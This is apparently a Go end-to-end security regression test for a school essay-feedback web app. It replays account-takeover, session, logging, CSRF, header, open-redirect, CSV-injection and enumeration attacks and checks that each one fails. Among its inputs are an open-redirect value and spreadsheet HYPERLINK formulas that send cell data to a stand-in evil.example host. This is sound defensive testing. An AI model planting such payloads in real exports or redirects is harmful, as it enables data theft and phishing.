package e2e

import (
	"bytes"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"
)

// linkDead is what a student sees on a link that no longer works.
const linkDead = "This link no longer works; ask your teacher for a new one."

// TestE2ESecurity replays the attacks of issue 15 (identity, sessions and
// the small holes) against the real binary on the demo school, and checks
// that each now fails to get in.
func TestE2ESecurity(t *testing.T) {
	in, d := startDemo(t, "MARGIN_LOG_LEVEL=info")
	rivera := in.login(d.Teacher, d.Password)
	classID := asSlice(in.must(200, "GET", "/api/v1/classes", rivera, nil)["classes"])[0].(map[string]any)["id"].(string)
	demo := secDemo{in: in, d: d, rivera: rivera, classID: classID}

	t.Run("a colleague cannot take over a student", demo.colleagueTakeover)
	t.Run("a new link or a removal ends the student's sessions", demo.sessionsEndWithTheLink)
	t.Run("the log holds no link token", demo.logsHoldNoToken)
	t.Run("small holes", demo.smallHoles)
	t.Run("limits and expiry", secLimitsAndExpiry)
}

type secDemo struct {
	in      *instance
	d       demoSchool
	rivera  string // Ms Rivera's token
	classID string // her demo class
}

// studentSession redeems an access link (its token) through the API and
// returns the session token and the user.
func studentSession(t *testing.T, in *instance, linkToken string) (string, map[string]any) {
	t.Helper()
	s := in.must(201, "POST", "/api/v1/student-sessions", "", map[string]any{"token": linkToken})
	return s["token"].(string), s["user"].(map[string]any)
}

// rosterNames is a class's roster: student ID to "Given Family".
func rosterNames(t *testing.T, in *instance, tok, classID string) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, s := range asSlice(in.must(200, "GET", "/api/v1/classes/"+classID+"/students", tok, nil)["students"]) {
		st := s.(map[string]any)
		out[st["student_id"].(string)] = st["given_name"].(string) + " " + st["family_name"].(string)
	}
	return out
}

// Finding 1: a colleague joins with the school's invite code, rosters the
// demo class's student IDs in a class of their own (renaming them), issues
// each an access link and signs in with it. They read none of the demo
// class's essays, originals, feedback or progress, rename no one there, and
// the real students' links still open their own work.
func (s secDemo) colleagueTakeover(t *testing.T) {
	in := s.in
	invite := in.must(200, "GET", "/api/v1/me", s.rivera, nil)["school"].(map[string]any)["invite_code"].(string)
	if r := in.call("GET", "/teacher", s.rivera, nil); !strings.Contains(string(r.Body), invite) {
		t.Errorf("the classes page does not show the school's invite code %s", invite)
	}
	before := rosterNames(t, in, s.rivera, s.classID)
	var subs []string
	for _, r := range asSlice(in.must(200, "GET", "/api/v1/assignments/"+s.d.AssignmentID+"/submissions", s.rivera, nil)["rows"]) {
		subs = append(subs, r.(map[string]any)["submission_id"].(string))
	}
	if len(before) != 5 || len(subs) != 5 {
		t.Fatalf("the demo class: %d students, %d submissions", len(before), len(subs))
	}

	in.must(202, "POST", "/api/v1/signup", "", map[string]any{"email": "colleague@lincoln.example.org", "password": teacherPassword, "name": "Mr Colleague", "role": "teacher", "invite_code": invite})
	col := in.login("colleague@lincoln.example.org", teacherPassword)
	theirs := in.must(201, "POST", "/api/v1/classes", col, map[string]any{"name": "Study hall", "subject": "english", "grade_level": 10})["id"].(string)
	csv := "student_id,given_name,family_name,email\n"
	for id := range before {
		csv += id + ",Mallory,Renamed,\n"
	}
	if r := in.call("POST", "/api/v1/classes/"+theirs+"/roster", col, strings.NewReader(csv), "Content-Type", "text/csv"); r.Status != 200 {
		t.Fatalf("the colleague's roster: %d %s", r.Status, r.Body)
	}
	for id := range before {
		if r := in.call("POST", "/api/v1/classes/"+s.classID+"/students/"+id+"/access-link", col, nil); r.Status != 404 {
			t.Errorf("the colleague issued a link in Ms Rivera's class: %d", r.Status)
		}
		link := in.must(201, "POST", "/api/v1/classes/"+theirs+"/students/"+id+"/access-link", col, nil)["token"].(string)
		tok, u := studentSession(t, in, link)
		if u["class_id"] != theirs {
			t.Errorf("the colleague's link signed in as %v", u)
		}
		for _, sub := range subs {
			for _, path := range []string{"/api/v1/submissions/" + sub, "/api/v1/submissions/" + sub + "/versions/1/original", "/api/v1/submissions/" + sub + "/feedback"} {
				if r := in.call("GET", path, tok, nil); r.Status != 404 {
					t.Errorf("the colleague's student %s: GET %s: %d", id, path, r.Status)
				}
			}
			if r := in.postMultipart("/api/v1/submissions/"+sub+"/versions", tok, nil, upload{"file", "essay.txt", []byte("A revision by someone else.")}); r.Status != 404 {
				t.Errorf("the colleague's student %s uploaded a revision of %s: %d", id, sub, r.Status)
			}
		}
		if mine := asSlice(in.must(200, "GET", "/api/v1/me/submissions", tok, nil)["submissions"]); len(mine) != 0 {
			t.Errorf("the colleague's student %s lists %d submissions", id, len(mine))
		}
		if p := in.must(200, "GET", "/api/v1/analytics/me/progress", tok, nil); len(asSlice(p["strands"])) != 0 {
			t.Errorf("the colleague's student %s sees progress: %v", id, p)
		}
		for _, path := range []string{"/progress", "/share-links"} {
			if r := in.call("GET", "/api/v1/analytics/classes/"+s.classID+"/students/"+id+path, tok, nil); r.Status != 404 {
				t.Errorf("the colleague's student %s: %s in Ms Rivera's class: %d", id, path, r.Status)
			}
		}
	}
	if after := rosterNames(t, in, s.rivera, s.classID); fmt.Sprint(after) != fmt.Sprint(before) {
		t.Errorf("Ms Rivera's roster was renamed: %v, was %v", after, before)
	}
	// The real students still read their own released feedback.
	released := 0
	for _, l := range s.d.Links {
		tok, u := studentSession(t, in, strings.TrimPrefix(l, "/s/"))
		if u["class_id"] != s.classID || u["name"] == "Mallory Renamed" {
			t.Errorf("a demo link signs in as %v", u)
		}
		for _, sub := range asSlice(in.must(200, "GET", "/api/v1/me/submissions", tok, nil)["submissions"]) {
			if in.call("GET", "/api/v1/submissions/"+sub.(map[string]any)["id"].(string)+"/feedback", tok, nil).Status == 200 {
				released++
			}
		}
	}
	if released != 2 {
		t.Errorf("%d demo students read released feedback, want 2", released)
	}
}

// Finding 5: a new link signs out whoever opened the old one, at once; the
// old link says it no longer works. Removing a student does the same.
func (s secDemo) sessionsEndWithTheLink(t *testing.T) {
	in := s.in
	old := strings.TrimPrefix(s.d.Links[0], "/s/")
	tok, u := studentSession(t, in, old)
	id := u["student_id"].(string)
	in.must(200, "GET", "/api/v1/me", tok, nil)
	fresh := in.must(201, "POST", "/api/v1/classes/"+s.classID+"/students/"+id+"/access-link", s.rivera, nil)
	if r := in.call("GET", "/api/v1/me", tok, nil); r.Status != 401 {
		t.Errorf("the old link's session after a new link: %d", r.Status)
	}
	if r := in.call("POST", "/api/v1/student-sessions", "", map[string]any{"token": old}); r.Status != 401 || r.ErrorCode(t) != "link_expired" {
		t.Errorf("the old link: %d %s", r.Status, r.Body)
	}
	if r := in.call("GET", "/s/"+old, "", nil); r.Status != 401 || !strings.Contains(string(r.Body), linkDead) {
		t.Errorf("the old link's page: %d %.300s", r.Status, r.Body)
	}
	studentSession(t, in, fresh["token"].(string))

	// Removal: the student is signed out and the link stops; the work stays.
	gone := strings.TrimPrefix(s.d.Links[1], "/s/")
	tok, u = studentSession(t, in, gone)
	id = u["student_id"].(string)
	in.must(204, "DELETE", "/api/v1/classes/"+s.classID+"/students/"+id, s.rivera, nil)
	if r := in.call("GET", "/api/v1/me", tok, nil); r.Status != 401 {
		t.Errorf("a removed student's session: %d", r.Status)
	}
	if r := in.call("GET", "/s/"+gone, "", nil); r.Status != 401 || !strings.Contains(string(r.Body), linkDead) {
		t.Errorf("a removed student's link: %d", r.Status)
	}
	for _, r := range asSlice(in.must(200, "GET", "/api/v1/assignments/"+s.d.AssignmentID+"/submissions", s.rivera, nil)["rows"]) {
		if r := r.(map[string]any); r["student_id"] == id {
			in.must(200, "GET", "/api/v1/submissions/"+r["submission_id"].(string), s.rivera, nil)
		}
	}

	// Sign out everywhere, from the page's button.
	c := reviewSignIn(t, in, s.d.Teacher, s.d.Password)
	other := in.login(s.d.Teacher, s.d.Password)
	_, _, csrf := page(t, c, in, "/teacher")
	if r := postForm(t, c, in, "/signout/everywhere", url.Values{"_csrf": {csrf}}); r.StatusCode != http.StatusSeeOther {
		t.Fatalf("sign out everywhere: %d", r.StatusCode)
	}
	if r := in.call("GET", "/api/v1/me", other, nil); r.Status != 401 {
		t.Errorf("a session survived signing out everywhere: %d", r.Status)
	}
	if r := in.call("GET", "/api/v1/me", s.rivera, nil); r.Status != 401 {
		t.Errorf("a session survived signing out everywhere: %d", r.Status)
	}
}

// Finding 6: neither a student's access-link token nor a family link's
// token reaches the request log; the link's path is logged redacted.
func (s secDemo) logsHoldNoToken(t *testing.T) {
	in := s.in
	link := strings.TrimPrefix(s.d.Links[2], "/s/")
	in.call("GET", "/s/"+link, "", nil)
	tok, u := studentSession(t, in, link)
	fam := in.must(201, "POST", "/api/v1/analytics/classes/"+s.classID+"/students/"+u["student_id"].(string)+"/share-links", tok, nil)["token"].(string)
	for _, path := range []string{"/family?token=" + url.QueryEscape(fam), "/api/v1/analytics/family/progress?token=" + url.QueryEscape(fam)} {
		if r := in.call("GET", path, "", nil); r.Status != 200 {
			t.Fatalf("GET %s: %d", path, r.Status)
		}
	}
	time.Sleep(100 * time.Millisecond) // the log line is written after the response
	logs := in.stderr.String()
	if !strings.Contains(logs, `"path":"/s/[redacted]"`) {
		t.Errorf("no redacted access-link path in the log:\n%.2000s", logs)
	}
	_, secret, _ := strings.Cut(fam, ".")
	for what, tok := range map[string]string{"access link": link, "family link": secret, "session": tok} {
		if strings.Contains(logs, tok) {
			t.Errorf("the log holds a %s token", what)
		}
	}
}

var metaCSRF = regexp.MustCompile(`<meta name="csrf-token" content="([^"]+)">`)

// Finding 7: open redirect, CSRF on the API, headers on SVG and the report,
// formulas in CSV exports, and sign-up enumeration.
func (s secDemo) smallHoles(t *testing.T) {
	in := s.in
	rivera := in.login(s.d.Teacher, s.d.Password) // the earlier one was signed out everywhere

	// Open redirect: a tab in next is refused.
	c := browserClient(t)
	_, _, csrf := page(t, c, in, "/signin")
	r := postForm(t, c, in, "/signin", url.Values{"_csrf": {csrf}, "email": {s.d.Teacher}, "password": {s.d.Password}, "next": {"/\t/evil.example/"}})
	if loc := r.Header.Get("Location"); r.StatusCode != http.StatusSeeOther || loc != "/teacher" {
		t.Errorf("next=/\\t/evil.example/: %d to %q", r.StatusCode, loc)
	}

	// CSRF: the writes a cross-site form could make with the cookie alone.
	send := func(method, path, ctype string, body []byte, header ...string) *http.Response {
		req, _ := http.NewRequest(method, in.url(path), bytes.NewReader(body))
		if ctype != "" {
			req.Header.Set("Content-Type", ctype)
		}
		for i := 0; i+1 < len(header); i += 2 {
			req.Header.Set(header[i], header[i+1])
		}
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp
	}
	mp, ctype := multipartBody(t, nil, upload{"file", "essay.txt", []byte("Forged.")})
	for _, w := range []struct {
		path, ctype string
		body        []byte
	}{
		{"/api/v1/classes", "", []byte(`{"name":"Forged","subject":"english","grade_level":9}`)},
		{"/api/v1/assignments/" + s.d.AssignmentID + "/matching/rounds", "text/plain", nil},
		{"/api/v1/assignments/" + s.d.AssignmentID + "/submissions", ctype, mp.Bytes()},
	} {
		if r := send("POST", w.path, w.ctype, w.body); r.StatusCode != http.StatusForbidden {
			t.Errorf("a cookie-only POST %s (%q): %d, want 403", w.path, w.ctype, r.StatusCode)
		}
	}
	_, body, _ := page(t, c, in, "/teacher")
	m := metaCSRF.FindStringSubmatch(body)
	if m == nil {
		t.Fatal("no CSRF token on the teacher's page")
	}
	if r := send("POST", "/api/v1/classes", "text/plain", []byte(`{"name":"x","subject":"english","grade_level":9}`), "X-CSRF-Token", m[1]); r.StatusCode != http.StatusUnsupportedMediaType {
		t.Errorf("JSON sent as text/plain with the token: %d, want 415", r.StatusCode)
	}
	if r := send("POST", "/api/v1/classes", "application/json", []byte(`{"name":"Page class","subject":"english","grade_level":9}`), "X-CSRF-Token", m[1]); r.StatusCode != http.StatusCreated {
		t.Errorf("the page's own API write: %d", r.StatusCode)
	}

	// Headers on what the API serves as HTML and SVG, and on pages' SVG.
	asg := "/api/v1/analytics/assignments/" + s.d.AssignmentID
	for _, path := range []string{asg + "/report.html", asg + "/levels.svg", "/teacher/assignments/" + s.d.AssignmentID + "/summary.svg", "/teacher"} {
		r := in.call("GET", path, rivera, nil)
		csp := r.Header.Get("Content-Security-Policy")
		if r.Status != 200 || r.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(csp, "frame-ancestors 'none'") ||
			strings.Contains(csp, "script-src 'unsafe") || r.Header.Get("X-Frame-Options") != "DENY" {
			t.Errorf("GET %s: %d, headers %v", path, r.Status, r.Header)
		}
		if path != "/teacher" && !strings.Contains(csp, "default-src 'none'") {
			t.Errorf("GET %s may run script: CSP %q", path, csp)
		}
	}

	// CSV: a roster name that is a formula reaches the exports as text.
	levels := strings.Split(string(in.call("GET", asg+"/levels.csv", rivera, nil).Body), "\n")
	graded, _, _ := strings.Cut(levels[1], ",") // a student with approved feedback
	csv := "student_id,given_name,family_name,email\n" + graded + `,"=HYPERLINK(""http://evil.example/"",""Grades"")","=HYPERLINK(""http://evil.example/""&A1,""Grades"")",` + "\n"
	if r := in.call("POST", "/api/v1/classes/"+s.classID+"/roster", rivera, strings.NewReader(csv), "Content-Type", "text/csv"); r.Status != 200 {
		t.Fatalf("roster: %d %s", r.Status, r.Body)
	}
	for _, path := range []string{asg + "/gradebook.csv", asg + "/levels.csv?names=true"} {
		r := in.call("GET", path, rivera, nil)
		if r.Status != 200 || !strings.Contains(string(r.Body), `'=HYPERLINK(`) {
			t.Errorf("GET %s: %d, no neutralised formula:\n%.600s", path, r.Status, r.Body)
		}
		for _, line := range strings.Split(string(r.Body), "\n") {
			for _, cell := range strings.Split(line, ",") {
				if c := strings.TrimLeft(cell, `"`); strings.HasPrefix(c, "=") || strings.HasPrefix(c, "@") || strings.HasPrefix(c, "+") {
					t.Errorf("GET %s: a cell starts a formula: %q", path, cell)
				}
			}
		}
	}

	// Enumeration: a taken email gets the answer a new one gets.
	taken := in.must(202, "POST", "/api/v1/signup", "", map[string]any{"email": s.d.Teacher, "password": "a guess at a passphrase", "name": "X", "role": "grader"})
	fresh := in.must(202, "POST", "/api/v1/signup", "", map[string]any{"email": "nobody.yet@example.org", "password": "a guess at a passphrase", "name": "X", "role": "grader"})
	if fmt.Sprint(taken) != fmt.Sprint(fresh) {
		t.Errorf("sign-up tells a taken email (%v) from a new one (%v)", taken, fresh)
	}
	in.login(s.d.Teacher, s.d.Password)
}

// Links expire, sign-up is limited per address, and the per-account login
// limit counts the API and the page together.
func secLimitsAndExpiry(t *testing.T) {
	in := start(t, "MARGIN_ACCESS_LINK_TTL=3s", "MARGIN_SIGNUP_PER_IP=3", "MARGIN_LOGIN_FAILURES_PER_ACCOUNT=3")
	in.must(202, "POST", "/api/v1/signup", "", map[string]any{"email": "t@school.example.org", "password": teacherPassword, "name": "T", "role": "teacher", "school": "S"})
	tok := in.login("t@school.example.org", teacherPassword)
	class := in.must(201, "POST", "/api/v1/classes", tok, map[string]any{"name": "C", "subject": "english", "grade_level": 9})["id"].(string)
	if r := in.call("POST", "/api/v1/classes/"+class+"/roster", tok, strings.NewReader("student_id,given_name,family_name,email\n7,A,B,\n"), "Content-Type", "text/csv"); r.Status != 200 {
		t.Fatalf("roster: %d", r.Status)
	}
	link := in.must(201, "POST", "/api/v1/classes/"+class+"/students/7/access-link", tok, nil)
	until, err := time.Parse(time.RFC3339, link["expires_at"].(string))
	if err != nil {
		t.Fatal(err)
	}
	studentSession(t, in, link["token"].(string))
	time.Sleep(time.Until(until) + 100*time.Millisecond)
	if r := in.call("POST", "/api/v1/student-sessions", "", map[string]any{"token": link["token"]}); r.Status != 401 || r.ErrorCode(t) != "link_expired" {
		t.Errorf("an expired link: %d %s", r.Status, r.Body)
	}
	if r := in.call("GET", "/s/"+link["token"].(string), "", nil); r.Status != 401 || !strings.Contains(string(r.Body), linkDead) {
		t.Errorf("an expired link's page: %d", r.Status)
	}

	for i := range 2 {
		in.must(202, "POST", "/api/v1/signup", "", map[string]any{"email": fmt.Sprintf("g%d@example.org", i), "password": teacherPassword, "name": "G", "role": "grader"})
	}
	if r := in.call("POST", "/api/v1/signup", "", map[string]any{"email": "g9@example.org", "password": teacherPassword, "name": "G", "role": "grader"}); r.Status != 429 {
		t.Errorf("a fourth sign-up from one address: %d", r.Status)
	}

	c := browserClient(t)
	_, _, csrf := page(t, c, in, "/signin")
	wrong := map[string]any{"email": "t@school.example.org", "password": "not the password"}
	for range 2 {
		if r := in.call("POST", "/api/v1/sessions", "", wrong); r.Status != 401 {
			t.Fatalf("a wrong password: %d", r.Status)
		}
	}
	if r := postForm(t, c, in, "/signin", url.Values{"_csrf": {csrf}, "email": {"t@school.example.org"}, "password": {"not it either"}}); r.StatusCode != 401 {
		t.Fatalf("a wrong password on the page: %d", r.StatusCode)
	}
	if r := in.call("POST", "/api/v1/sessions", "", map[string]any{"email": "t@school.example.org", "password": teacherPassword}); r.Status != 429 {
		t.Errorf("the API after three failures across the API and the page: %d, want 429", r.Status)
	}
	if r := postForm(t, c, in, "/signin", url.Values{"_csrf": {csrf}, "email": {"t@school.example.org"}, "password": {teacherPassword}}); r.StatusCode != 429 {
		t.Errorf("the page after three failures: %d, want 429", r.StatusCode)
	}
}
